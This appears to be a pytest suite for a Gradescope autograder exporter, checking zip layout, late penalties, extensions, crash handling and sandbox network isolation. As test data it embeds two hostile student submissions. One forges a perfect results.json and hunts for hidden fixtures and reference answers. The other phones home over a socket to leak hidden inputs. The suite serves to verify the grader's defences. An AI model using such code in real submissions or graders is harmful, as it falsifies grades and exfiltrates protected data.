"""The Gradescope autograder zip, run in Gradescope's layout (bubblewrap stands in for their
container here; tests/sandbox adds the Docker run)."""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import jsonschema
import pytest

from grader.autograder.export import export_gradescope
from grader.scoring.penalties import Policy

from .conftest import REPO, reference_with

pytestmark = pytest.mark.sandbox
SCHEMA = json.loads((REPO / "tests/data/gradescope_results.schema.json").read_text())

MALICIOUS = '''
import glob, json, os
print("score: 100 / 100")
print(json.dumps({"score": 100}))
for path in ["/autograder/results/results.json", "/autograder/results.json"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            json.dump({"score": 100, "tests": []}, fh)
    except OSError:
        pass


def adam(w, dw, config=None):
    found = glob.glob("/autograder/source/src/assignments/*/fixtures/*")
    found += glob.glob("/autograder/source/src/reference/**/*.py", recursive=True)
    found += glob.glob("/autograder/**/*.npz", recursive=True)
    if found:
        import numpy as np
        raise RuntimeError("READ FIXTURES " + repr(found))
    return w, config or {}
'''


@pytest.fixture(scope="module")
def autograder_zip(fc_optim, tmp_path_factory):
    out = tmp_path_factory.mktemp("export") / "autograder.zip"
    export_gradescope(fc_optim, out, policy=Policy(late_percent_per_day=10, max_submissions=3),
                      wheels=False)
    return out


def test_zip_layout(autograder_zip):
    with zipfile.ZipFile(autograder_zip) as zf:
        names = zf.namelist()
        assert {"setup.sh", "run_autograder", "config.json", "requirements.txt"} <= set(names)
        assert zf.getinfo("run_autograder").external_attr >> 16 & 0o111
        # the reference answers composite TODOs' block calls, outside the student's sandbox;
        # the student's uid cannot read it (test below)
        assert "src/reference/fc-optim/nndl/layers.py" in names
        assert any(n.startswith("src/assignments/fc-optim/fixtures/expected-") for n in names)
        assert json.loads(zf.read("config.json"))["policy"]["late_percent_per_day"] == 10


def _run_in_layout(tmp_path: Path, zip_path: Path, files: dict[str, bytes], meta: dict,
                   container: list[str] | None = None) -> dict:
    """Unpack like Gradescope, run setup.sh and run_autograder as root, return results.json.
    ``container``: more bubblewrap options of the stand-in container."""
    if os.geteuid() != 0:
        pytest.skip("Gradescope runs the autograder as root; so must this test")
    ag = tmp_path / "autograder"
    (ag / "source").mkdir(parents=True)
    (ag / "results").mkdir()
    with zipfile.ZipFile(zip_path) as zf:
        zf.extractall(ag / "source")
    for rel, data in files.items():
        p = ag / "submission" / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    (ag / "submission_metadata.json").write_text(json.dumps(meta))
    # setup.sh would pip-install pydantic into /autograder/pylib; offline, copy ours
    (ag / "pylib").mkdir()
    for name in ("pydantic", "pydantic_core", "typing_extensions",
                 "annotated_types", "typing_inspection"):
        spec = importlib.util.find_spec(name)
        if spec is None or not spec.origin:
            continue
        origin = Path(spec.origin)
        if origin.name == "__init__.py":
            shutil.copytree(origin.parent, ag / "pylib" / origin.parent.name)
        else:
            shutil.copy(origin, ag / "pylib" / origin.name)
    script = "bash /autograder/source/run_autograder"
    res = subprocess.run(["bwrap", "--bind", "/", "/", "--bind", str(ag), "/autograder",
                          "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp",
                          *(container or []), "bash", "-c", script],
                         capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr[-2000:]
    return json.loads((ag / "results/results.json").read_text())


META = {"created_at": "2026-03-01T10:00:00Z", "assignment": {"due_date": "2026-03-02T23:59:00Z"},
        "previous_submissions": []}


def test_correct_buggy_and_malicious(fc_optim, autograder_zip, tmp_path):
    correct = _run_in_layout(tmp_path / "a", autograder_zip, reference_with(fc_optim, {}), META)
    jsonschema.validate(correct, SCHEMA)
    todo_tests = [t for t in correct["tests"] if "sandbox" not in t["tags"]]
    assert correct["score"] == 100 and len(todo_tests) == len(fc_optim.manifest.todos)

    variant = next(v for v in fc_optim.manifest.variants if v.id == "adam_no_bias_correction")
    from grader.assignments.variants import variant_files

    late = dict(META, created_at="2026-03-03T10:00:00Z")
    buggy = _run_in_layout(tmp_path / "b", autograder_zip, variant_files(fc_optim, variant),
                           late)
    jsonschema.validate(buggy, SCHEMA)
    adam = next(t for t in buggy["tests"] if t["name"].startswith("adam "))
    assert adam["status"] == "failed" and "Adam without bias correction" in adam["output"]
    raw = sum(t["score"] for t in buggy["tests"])
    assert raw < 100 and buggy["score"] == pytest.approx(round(raw * 0.9, 2), abs=0.011)
    assert "(-10%: 1 day(s) late)" in buggy["output"]

    files = reference_with(fc_optim, {"nndl/optim.py": MALICIOUS})
    files["nndl/optim.py"] = MALICIOUS.split("\n\ndef adam")[0].encode() + b"\n" + \
        files["nndl/optim.py"]
    evil = _run_in_layout(tmp_path / "c", autograder_zip, files, META)
    jsonschema.validate(evil, SCHEMA)
    assert evil["score"] == 100 - 13
    adam = next(t for t in evil["tests"] if t["name"].startswith("adam "))
    assert "READ FIXTURES" not in adam["output"] and adam["score"] == 0


def test_crash_still_writes_valid_results(fc_optim, autograder_zip, tmp_path):
    broken = tmp_path / "broken.zip"
    with zipfile.ZipFile(autograder_zip) as src, zipfile.ZipFile(broken, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "config.json":
                data = b"{not json"
            dst.writestr(item, data)
    out = _run_in_layout(tmp_path / "d", broken, reference_with(fc_optim, {}), META)
    jsonschema.validate(out, SCHEMA)
    assert out["score"] == 0
    visible = [t for t in out["tests"] if t["visibility"] == "visible"]
    hidden = [t for t in out["tests"] if t["visibility"] == "hidden"]
    assert visible[0]["name"] == "autograder failed"
    assert "JSONDecodeError" in hidden[0]["output"] and "Traceback" not in visible[0]["output"]


def test_over_the_submission_limit(fc_optim, autograder_zip, tmp_path):
    meta = dict(META, previous_submissions=[{}, {}, {}])
    out = _run_in_layout(tmp_path / "e", autograder_zip, reference_with(fc_optim, {}), meta)
    assert out["score"] == 0 and "used all 3 submissions" in out["output"]




def test_extensions_in_the_export(fc_optim, tmp_path):
    """A student's extension (by their Gradescope email or name) changes their penalty and
    limit inside Gradescope; other students keep the plain policy."""
    from grader.scoring.penalties import Extension

    out = tmp_path / "ext.zip"
    export_gradescope(fc_optim, out, wheels=False,
                      policy=Policy(late_percent_per_day=10, max_submissions=3),
                      extensions={"late@uni.edu": Extension(extra_late_days=1),
                                  "Mo Re": Extension(extra_submissions=1)})
    with zipfile.ZipFile(out) as zf:
        config = json.loads(zf.read("config.json"))
    assert config["extensions"] == {
        "Mo Re": {"due_at": None, "extra_late_days": 0, "extra_submissions": 1},
        "late@uni.edu": {"due_at": None, "extra_late_days": 1, "extra_submissions": 0}}
    files = reference_with(fc_optim, {})
    late = dict(META, created_at="2026-03-03T10:00:00Z",
                users=[{"email": "late@uni.edu", "name": "La Te"}])
    excused = _run_in_layout(tmp_path / "a", out, files, late)
    jsonschema.validate(excused, SCHEMA)
    assert excused["score"] == 100 and "Extension applied (late@uni.edu)." in excused["output"]
    fourth = dict(META, previous_submissions=[{}, {}, {}],
                  users=[{"email": "more@uni.edu", "name": "Mo Re"}])
    allowed = _run_in_layout(tmp_path / "b", out, files, fourth)
    assert allowed["score"] == pytest.approx(100) and "used all" not in allowed["output"]
    other = dict(fourth, users=[{"email": "x@uni.edu", "name": "X"}])
    refused = _run_in_layout(tmp_path / "c", out, files, other)
    assert refused["score"] == 0 and "used all 3 submissions" in refused["output"]


# --- no bubblewrap in the container: the fallback's network (issue 12 item 12) ------------

PHONE_HOME = """
import socket as _socket
try:
    _c = _socket.create_connection(("127.0.0.1", {port}), timeout=3)
    _c.sendall(b"hidden inputs, fixtures, anything")
    _c.close()
except OSError:
    pass
"""

#: Stands in for bubblewrap where the container forbids namespaces (as on Gradescope).
NO_BWRAP = """#!/bin/sh
echo "bwrap: No permissions to creating new namespace, likely because the kernel does not \
allow non-privileged user namespaces." >&2
exit 1
"""


class Listener:
    """A TCP server on the host's loopback that counts the connections it receives;
    ``close`` first accepts every connection the kernel has queued."""

    def __init__(self) -> None:
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                if self.stopping.is_set():
                    return  # nothing left in the queue
                continue
            with conn:
                conn.settimeout(5)
                try:
                    self.received.append(conn.recv(1000))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.stopping.set()
        self.thread.join(30)
        self.sock.close()


def _phone_home_run(fc_optim, autograder_zip, tmp_path, extra: list[str]):
    from grader.sandbox.process import bwrap_path

    fake = tmp_path / "bwrap"
    fake.write_text(NO_BWRAP)
    fake.chmod(0o755)
    listener = Listener()
    try:
        files = reference_with(fc_optim, {})
        files["nndl/optim.py"] = PHONE_HOME.format(port=listener.port).encode() + \
            files["nndl/optim.py"]
        out = _run_in_layout(tmp_path / "ag", autograder_zip, files, META,
                             container=["--ro-bind", str(fake), bwrap_path(), *extra])
    finally:
        listener.close()
    jsonschema.validate(out, SCHEMA)
    assert out["score"] == 100 and "Graded in the 'user' sandbox" in out["output"]
    notes = [t for t in out["tests"] if t["name"] == "sandbox isolation (instructors only)"]
    assert len(notes) == 1 and notes[0]["visibility"] == "hidden"
    assert notes[0]["max_score"] == 0 and notes[0]["number"] == str(len(out["tests"]))
    assert "isolat" not in out["output"] and "unshare" not in out["output"]  # students: no
    return notes[0], listener.received


def test_fallback_without_bubblewrap_drops_the_network(fc_optim, autograder_zip, tmp_path):
    note, received = _phone_home_run(fc_optim, autograder_zip, tmp_path, [])
    assert received == []  # the student's code reached nothing
    assert note["status"] == "passed"
    assert note["output"].startswith(
        "The student's code ran in the unprivileged-user sandbox, because bubblewrap could "
        "not be used here (")
    assert "No permissions to creating new namespace" in note["output"]
    assert note["output"].endswith(
        "Network: isolated; the grader moved itself into a new network namespace with no "
        "interface up (unshare(CLONE_NEWNET)) before running the student's code.")


def test_fallback_that_cannot_drop_the_network_says_so(fc_optim, autograder_zip, tmp_path):
    # a container without CAP_SYS_ADMIN: unshare is refused, the network stays reachable
    note, received = _phone_home_run(fc_optim, autograder_zip, tmp_path,
                                     ["--cap-drop", "CAP_SYS_ADMIN"])
    assert received and set(received) == {b"hidden inputs, fixtures, anything"}  # the attack
    assert note["status"] == "failed"
    assert ("Network: NOT isolated; unshare(CLONE_NEWNET) was refused (EPERM: Operation not "
            "permitted). The student's code could open network connections from this "
            "container while it was graded.") in note["output"]
